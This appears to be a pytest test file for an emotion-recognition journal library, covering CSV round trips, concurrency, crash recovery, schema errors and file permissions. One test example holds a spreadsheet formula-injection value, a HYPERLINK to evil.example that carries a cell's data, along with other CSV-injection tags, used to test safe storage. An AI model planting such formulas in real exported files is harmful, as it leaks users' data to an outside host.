"""The journal store: round trips, concurrent writers, crashes, schema errors, permissions, amendments."""

from __future__ import annotations

import multiprocessing
import os
import stat
import subprocess
import sys
import tempfile
from datetime import datetime, timedelta, timezone
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from conftest import journal_entry
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from emoj_lib.errors import DataFormatError
from emoj_lib.journal import COLUMNS, SOURCES, Entry, Journal, JournalWarning, read_journal
from emoj_lib.labels import EMOTIONS

TZ = timezone(timedelta(hours=2))
TRICKY = 'she said "no, never"\nthen left,\r\nback at 5 \u00e9\u4f60\U0001f600 "" \x00 end'


def make_entry(rng: np.random.Generator, **kw) -> Entry:
    return journal_entry(rng, **({"box": (10, 20, 120, 130), "source": "webcam", "model": "emoj_fer2013",
                                  "timestamp": datetime(2025, 3, 1, 9, 30, tzinfo=TZ)} | kw))


def pixels_of(text: str) -> np.ndarray:
    return np.array(text.split(), dtype=np.uint8).reshape(48, 48)


@pytest.fixture
def journal(tmp_path) -> Journal:
    return Journal.create(tmp_path / "journal", fsync=False)


# ------------------------------------------------------------------------------------------- round trips

texts = st.text(max_size=40)
tag_text = st.text(alphabet=st.characters(blacklist_characters=";\r\n", blacklist_categories=("Cs",)), max_size=8)
entries = st.builds(
    dict,
    seed=st.integers(0, 2**32 - 1),
    box=st.tuples(st.integers(0, 5000), st.integers(0, 5000), st.integers(1, 5000), st.integers(1, 5000)),
    probabilities=st.lists(st.floats(0.001, 1), min_size=7, max_size=7).map(lambda p: np.divide(p, sum(p))),
    source=st.sampled_from(SOURCES),
    model=texts,
    model_version=texts,
    note=texts,
    tags=st.lists(tag_text, max_size=4),
    user_label=st.one_of(st.none(), st.sampled_from(EMOTIONS)),
    when=st.datetimes(datetime(2000, 1, 1), datetime(2100, 1, 1)),
    offset=st.integers(-14 * 60, 14 * 60),
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(specs=st.lists(entries, min_size=1, max_size=4))
@example(specs=[{"seed": 2, "box": (1, 1, 1, 1), "probabilities": [1 / 7] * 7, "source": "upload",
                 "model": "-model", "model_version": "+1", "note": 'one, two\nthree, four 5 6\n=HYPERLINK("http://evil.example/?d="&B3,"x")',
                 "tags": ["@sum", "'=q", "''", "-1"], "user_label": None, "when": datetime(2025, 1, 1),
                 "offset": 0}])
@example(specs=[{"seed": 1, "box": (0, 0, 1, 1), "probabilities": [0, 0, 0, 1, 0, 0, 0], "source": "file",
                 "model": 'm,"x"', "model_version": "2\n", "note": TRICKY, "tags": ["a,b", ' "q" ', "#x", "=1+2"],
                 "user_label": "happy", "when": datetime(2025, 1, 1), "offset": -330}])
def test_round_trip(specs):
    made = []
    with tempfile.TemporaryDirectory() as tmp:
        journal = Journal.create(tmp, fsync=False)
        for spec in specs:
            rng = np.random.default_rng(spec["seed"])
            when = spec["when"].replace(tzinfo=timezone(timedelta(minutes=spec["offset"])))
            made.append(journal.append(Entry(
                rng.integers(0, 256, (48, 48), dtype=np.uint8), spec["box"], spec["probabilities"], spec["source"],
                spec["model"], spec["model_version"], timestamp=when, note=spec["note"], tags=spec["tags"],
                user_label=spec["user_label"])))
        data = journal.read()
    assert data.problems.empty
    got = data.entries
    assert list(got.index) == [e.entry_id for e in made]
    for e, (_, row) in zip(made, got.iterrows(), strict=True):
        assert row["timestamp"] == pd.Timestamp(e.timestamp)
        assert row["local_time"] == pd.Timestamp(e.timestamp.replace(tzinfo=None))
        assert row["source"] == e.source
        assert (row["x"], row["y"], row["w"], row["h"]) == e.box
        assert row["emotion"] == e.emotion
        assert row["confidence"] == e.confidence
        np.testing.assert_array_equal(row[[f"p_{k}" for k in EMOTIONS]].to_numpy(float), e.probabilities)
        assert (row["model"], row["model_version"], row["note"]) == (e.model, e.model_version, e.note)
        assert row["tags"] == e.tags
        assert (None if pd.isna(row["user_label"]) else row["user_label"]) == e.user_label
        np.testing.assert_array_equal(pixels_of(row["pixels"]), e.face)


def test_dtypes_and_empty_journal(journal, rng):
    empty = journal.read().entries
    assert len(empty) == 0
    journal.append(make_entry(rng))
    full = journal.read().entries
    assert list(full.columns) == list(empty.columns)
    assert (full.dtypes.astype(str) == empty.dtypes.astype(str)).all()
    dt = full.dtypes
    assert str(dt["timestamp"]) == "datetime64[us, UTC]" and str(dt["local_time"]) == "datetime64[us]"
    assert dt["x"] == np.int64 and dt["p_happy"] == np.float64 and dt["confidence"] == np.float64
    assert isinstance(dt["emotion"], pd.CategoricalDtype) and list(dt["emotion"].categories) == list(EMOTIONS)
    assert isinstance(dt["user_label"], pd.CategoricalDtype)
    assert full.index.name == "entry_id"
    assert "pixels" not in journal.read(pixels=False).entries


def test_file_layout(journal, rng):
    e = journal.append(make_entry(rng, note="a,b"))
    lines = journal.path.read_text("utf-8").splitlines()
    assert lines[0] == "# emoj-journal v1"
    assert lines[1] == ",".join(COLUMNS)
    assert lines[2].startswith(f"entry,{e.entry_id},2025-03-01T09:30:00.000000+02:00,webcam,10,20,120,130,")
    assert ',"a,b",' in lines[2]
    assert pd.read_csv(journal.path, skiprows=1).shape == (1, len(COLUMNS))  # readable by ordinary tools


def test_from_reading_needs_no_tensorflow(rng):
    from emoj_lib.faces import Box
    from emoj_lib.recognizer import FaceReading

    p = np.array([0.05, 0.05, 0.1, 0.6, 0.1, 0.05, 0.05], np.float32)
    reading = FaceReading(Box(3, 4, 50, 60), rng.integers(0, 256, (48, 48), dtype=np.uint8), p)
    e = Entry.from_reading(reading, source="camera", model="emoj_fer2013", model_version="2", note="hi")
    assert (e.box, e.emotion, e.source, e.note) == ((3, 4, 50, 60), "happy", "camera", "hi")
    assert e.confidence == pytest.approx(0.6)
    code = "import sys, emoj_lib.journal; assert 'tensorflow' not in sys.modules, 'tensorflow imported'"
    subprocess.run([sys.executable, "-c", code], check=True)


@pytest.mark.parametrize(("change", "message"), [
    ({"timestamp": datetime(2025, 1, 1)}, "time-zone aware"),
    ({"source": "phone"}, "source"),
    ({"probabilities": [0.5] * 6}, "probabilities"),
    ({"probabilities": [1.5, 0, 0, 0, 0, 0, 0]}, "probabilities"),
    ({"tags": ["a;b", "c"]}, "tag"),
    ({"box": (0, 0, 0, 10)}, "box"),
    ({"face": np.zeros((48, 47), np.uint8)}, "face"),
    ({"user_label": "bored"}, "unknown emotion"),
    ({"note": "\ud800"}, "UTF-8"),
])
def test_entry_validation(rng, change, message):
    with pytest.raises((ValueError, KeyError), match=message):
        make_entry(rng, **change)


def test_tags_are_normalised(rng):
    assert make_entry(rng, tags=" work ; ;home;work").tags == ("work", "home")
    assert make_entry(rng, user_label="Happiness").user_label == "happy"


# -------------------------------------------------------------------------------------------- amendments

def test_amendments_fold_and_keep_history(journal, rng):
    a, b = journal.append(make_entry(rng, note="first")), journal.append(make_entry(rng, tags=["x"]))
    before = journal.path.read_bytes()
    journal.amend(a.entry_id, label="sad")
    journal.amend(a.entry_id, note='now, with "quotes"\nand lines', tags="work;tired")
    journal.amend(a.entry_id, label="angry")  # a second correction wins
    journal.confirm(b)
    journal.amend(b.entry_id, tags=[])  # clear
    assert journal.path.read_bytes().startswith(before)  # append-only: history is never rewritten
    data = journal.read()
    got = data.entries
    assert got.at[a.entry_id, "user_label"] == "angry"
    assert got.at[a.entry_id, "note"] == 'now, with "quotes"\nand lines'
    assert got.at[a.entry_id, "tags"] == ("work", "tired")
    assert got.at[b.entry_id, "user_label"] == b.emotion and got.at[b.entry_id, "tags"] == ()
    assert got.at[a.entry_id, "emotion"] == a.emotion  # the prediction itself never changes
    assert pd.notna(got.at[a.entry_id, "amended_at"])
    hist = data.history(a.entry_id)
    assert list(hist["kind"]) == ["entry", "amend", "amend", "amend"]
    assert hist["note"].iloc[0] == "first"
    assert [None if pd.isna(v) else v for v in hist["user_label"]] == [None, "sad", None, "angry"]
    assert hist["amended"].iloc[1] == ("user_label",) and set(hist["amended"].iloc[2]) == {"note", "tags"}
    journal.amend(a.entry_id, label=None)  # clearing a label
    assert pd.isna(journal.read().entries.at[a.entry_id, "user_label"])


def test_amend_errors(journal, rng):
    e = journal.append(make_entry(rng))
    with pytest.raises(KeyError, match="no entry"):
        journal.amend("0" * 32, label="sad")
    with pytest.raises(ValueError, match="nothing to amend"):
        journal.amend(e.entry_id)
    with pytest.raises(KeyError, match="unknown emotion"):
        journal.amend(e.entry_id, label="bored")
    with pytest.raises(ValueError, match="predicted emotion"):
        journal.confirm(e.entry_id)


def test_orphan_amendment_is_reported_not_raised(journal, rng):
    journal.append(make_entry(rng))
    journal.amend("f" * 32, label="sad", check=False)
    with pytest.warns(JournalWarning, match="orphan"):
        data = journal.read()
    assert len(data.entries) == 1
    assert data.problems["kind"].tolist() == ["orphan"] and data.problems["line"].tolist() == [4]


# ------------------------------------------------------------------------------------------- concurrency

def _writer(folder: str, k: int, n: int, barrier) -> None:
    rng = np.random.default_rng(k)
    journal = Journal(folder)
    barrier.wait()
    for i in range(n):
        e = journal.append(make_entry(rng, note=f'writer {k}, "entry" {i}\nsecond line', tags=[f"w{k}"]))
        if i % 10 == 0:
            journal.amend(e.entry_id, label=EMOTIONS[k])


def test_concurrent_writers_lose_nothing(tmp_path):
    folder = str(tmp_path / "journal")
    Journal(folder)
    ctx = multiprocessing.get_context("fork")
    barrier = ctx.Barrier(4)
    procs = [ctx.Process(target=_writer, args=(folder, k, 50, barrier)) for k in range(4)]
    for p in procs:
        p.start()
    for p in procs:
        p.join(60)
        assert p.exitcode == 0
    data = read_journal(folder)
    assert data.problems.empty
    e = data.entries
    assert len(e) == 200 and e.index.is_unique
    for k in range(4):
        mine = e[e["tags"] == (f"w{k}",)]
        assert len(mine) == 50
        assert sorted(mine["note"]) == sorted(f'writer {k}, "entry" {i}\nsecond line' for i in range(50))
        assert (mine["user_label"] == EMOTIONS[k]).sum() == 5
    assert (data.changes["kind"] == "amend").sum() == 20


# ----------------------------------------------------------------------------------------------- crashes

def _cut(row: bytes, where: str) -> bytes:
    if where == "pixels":
        return row[: len(row) - 1000]
    if where == "no_newline":
        return row[:-1]
    if where == "start":
        return row[:6]
    i = row.index(b"second")
    return row[:i] if where == "after_quoted_newline" else row[: i - 3]  # inside the quoted note


@pytest.mark.parametrize("where", ["pixels", "no_newline", "start", "after_quoted_newline", "inside_quotes"])
@pytest.mark.parametrize("fresh", [True, False], ids=["new-journal-object", "same-object"])
def test_truncated_last_row_is_skipped_and_repaired(tmp_path, rng, where, fresh):
    journal = Journal(tmp_path, fsync=False)
    journal.append(make_entry(rng, note='multi\nline, "note"'))
    journal.append(make_entry(rng))
    lost = make_entry(rng, note='cut "here"\nsecond line')
    with open(journal.path, "ab") as fh:  # what a crash leaves: part of a row
        fh.write(_cut(lost.to_row(), where))
    with pytest.warns(JournalWarning, match="truncated"):
        data = journal.read()  # on_error="raise": a truncated last row is never an error
    assert len(data.entries) == 2 and lost.entry_id not in data.entries.index
    assert data.problems["kind"].tolist() == ["truncated"] and data.problems["line"].tolist() == [6]

    writer = Journal(tmp_path, fsync=False) if fresh else journal
    after = writer.append(make_entry(rng, note="after the crash, \"fine\""))
    writer.append(make_entry(rng))
    writer.amend(after.entry_id, label="happy")
    with pytest.warns(JournalWarning, match="truncated"):
        data = journal.read()
    assert len(data.entries) == 4 and lost.entry_id not in data.entries.index
    assert data.entries.at[after.entry_id, "note"] == "after the crash, \"fine\""
    assert data.entries.at[after.entry_id, "user_label"] == "happy"
    assert data.problems["kind"].tolist() == ["truncated"] and data.problems["line"].tolist() == [6]
    assert journal.path.read_bytes().count(b"# emoj-journal: the row above was cut short") == 1


def test_failed_write_leaves_no_partial_row(journal, rng, monkeypatch):
    journal.append(make_entry(rng))
    size = journal.path.stat().st_size
    real_write = os.write

    def short_write(fd, data):
        return real_write(fd, bytes(data)[:100])

    monkeypatch.setattr(os, "write", short_write)
    with pytest.raises(OSError, match="short write"):
        journal.append(make_entry(rng))
    monkeypatch.setattr(os, "write", real_write)
    assert journal.path.stat().st_size == size
    journal.append(make_entry(rng))
    assert len(journal.read().entries) == 2


# ------------------------------------------------------------------------------------------ schema errors

def test_wrong_header(tmp_path):
    path = tmp_path / "journal.csv"
    path.write_text("# emoj-journal v1\nkind,entry_id,when\n")
    with pytest.raises(DataFormatError, match=r"line 2: wrong header.*missing"):
        read_journal(path)
    with pytest.raises(DataFormatError, match="line 2"):
        Journal.open(tmp_path)
    with pytest.raises(DataFormatError, match="line 2"):
        Journal(tmp_path).append(make_entry(np.random.default_rng(0)))  # refuses to append to it


def test_not_a_journal(tmp_path):
    path = tmp_path / "journal.csv"
    path.write_text("emotion,pixels,Usage\n0,1 2 3,Training\n")
    with pytest.raises(DataFormatError, match="line 1: not an emoJ journal"):
        read_journal(path)


def test_newer_schema_version(tmp_path, rng):
    journal = Journal(tmp_path, fsync=False)
    journal.append(make_entry(rng))
    text = journal.path.read_text().replace("# emoj-journal v1", "# emoj-journal v2", 1)
    journal.path.write_text(text)
    with pytest.raises(DataFormatError, match=r"journal\.csv, line 1: journal schema v2 .*newer"):
        read_journal(journal.path)
    with pytest.raises(DataFormatError, match="newer"):
        Journal(tmp_path).append(make_entry(rng))  # never mixes v1 rows into a v2 file


def _rows_with_bad_middle(journal, rng, bad: str):
    journal.append(make_entry(rng, note="three\nphysical\nlines"))  # lines 3-5
    good = journal.append(make_entry(rng)).to_row().decode()  # line 6
    fields = good.rstrip("\n").split(",")
    if bad == "probability":
        fields[COLUMNS.index("p_fear")] = "abc"
    elif bad == "emotion":
        fields[COLUMNS.index("emotion")] = "bored"
    elif bad == "fields":
        del fields[5]
    elif bad == "pixels":
        fields[-1] = fields[-1][:3000]
    elif bad == "timestamp":
        fields[2] = "2025-03-01T09:30:00"  # no time zone
    fields[1] = "b" * 32
    with open(journal.path, "a") as fh:
        fh.write(",".join(fields) + "\n")  # line 7
    journal.append(make_entry(rng))  # line 8


@pytest.mark.parametrize(("bad", "field"), [("probability", "p_fear"), ("emotion", "emotion"), ("fields", None),
                                            ("pixels", "pixels"), ("timestamp", "timestamp")])
def test_malformed_middle_row(journal, rng, bad, field):
    _rows_with_bad_middle(journal, rng, bad)
    with pytest.raises(DataFormatError, match=r"journal\.csv, line 7") as info:
        journal.read(on_error="raise")
    assert info.value.line == 7 and info.value.field == field
    with pytest.warns(JournalWarning, match=r"1 row\(s\) skipped .*1 malformed.* at line\(s\) 7"):
        data = journal.read()  # the default: skip and report
    assert len(data.entries) == 3
    assert data.problems[["line", "kind"]].values.tolist() == [[7, "malformed"]]


def test_duplicate_entry_id(journal, rng):
    e = journal.append(make_entry(rng))
    with open(journal.path, "ab") as fh:
        fh.write(e.to_row())
    with pytest.raises(DataFormatError, match=r"line 4.*already used at line 3"):
        journal.read(on_error="raise")


def test_read_paths(tmp_path, journal):
    assert read_journal(journal.folder).path == read_journal(journal.path).path == journal.path
    with pytest.raises(FileNotFoundError):
        read_journal(tmp_path / "nowhere")
    with pytest.raises(ValueError, match="on_error"):
        journal.read(on_error="ignore")
    with pytest.raises(NotADirectoryError, match="not a folder"):
        Journal(journal.path)


# ----------------------------------------------------------------------------------- privacy & photos

def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.parametrize("umask", [0o000, 0o022, 0o077])
def test_owner_only_permissions(tmp_path, rng, umask):
    old = os.umask(umask)
    try:
        journal = Journal(tmp_path / "deep" / "journal")
        png = tmp_path / "photo.png"
        from PIL import Image

        Image.fromarray(rng.integers(0, 256, (20, 30, 3), dtype=np.uint8)).save(png)
        e = journal.append(make_entry(rng), photo=png)
        f = journal.append(make_entry(rng), photo=rng.integers(0, 256, (10, 10), dtype=np.uint8))
    finally:
        os.umask(old)
    assert _mode(journal.folder) == 0o700
    assert _mode(journal.path) == 0o600
    assert _mode(journal.folder / "photos") == 0o700
    for entry in (e, f):
        photo = journal.photo_path(entry.entry_id)
        assert photo is not None and photo.suffix == ".png" and _mode(photo) == 0o600
    with Image.open(journal.photo_path(e.entry_id)) as kept, Image.open(png) as original:
        np.testing.assert_array_equal(np.asarray(kept), np.asarray(original))
    entries = journal.read().entries
    assert entries.at[e.entry_id, "photo"] == f"photos/{e.entry_id}.png"
    assert not list((journal.folder / "photos").glob(".*"))  # no temporary files left


def test_photo_is_optional_and_checked(journal, rng):
    e = journal.append(make_entry(rng))
    assert journal.photo_path(e.entry_id) is None
    assert journal.read().entries.at[e.entry_id, "photo"] == ""
    with pytest.raises(ValueError, match="JPEG or PNG"):
        journal.append(make_entry(rng), photo=b"GIF89a...")


# --------------------------------------------------------------------------------------------- training

def test_labelled_faces(journal, rng):
    a = journal.append(make_entry(rng, user_label="sad"))
    journal.append(make_entry(rng))  # unlabelled: left out
    c = journal.append(make_entry(rng))
    journal.amend(c.entry_id, label="surprise")
    d = journal.append(make_entry(rng, user_label="fear"))
    journal.amend(d.entry_id, label="angry")  # the correction wins
    fer = journal.labelled_faces()
    assert len(fer) == 3
    np.testing.assert_array_equal(fer.images, np.stack([a.face, c.face, d.face]))
    assert [EMOTIONS[i] for i in fer.labels] == ["sad", "surprise", "angry"]
    assert list(fer.usage) == ["Journal"] * 3 and list(fer.rows) == [0, 2, 3]


def test_labelled_faces_bad_pixels(journal, rng):
    e = make_entry(rng, user_label="happy")
    row = e.to_row().decode()
    head, _, px = row.rpartition(",")
    with open(journal.path, "a") as fh:
        fh.write(head + "," + px.replace("1", "x", 1))
    with pytest.raises(DataFormatError, match="line 3, field 'pixels'"):
        journal.labelled_faces()
    with pytest.warns(JournalWarning, match=r"pixel \d+ is '[0-9]*x"):
        fer = journal.read().labelled_faces(on_error="skip")  # the row is checked (and skipped) on reading
    assert len(fer) == 0
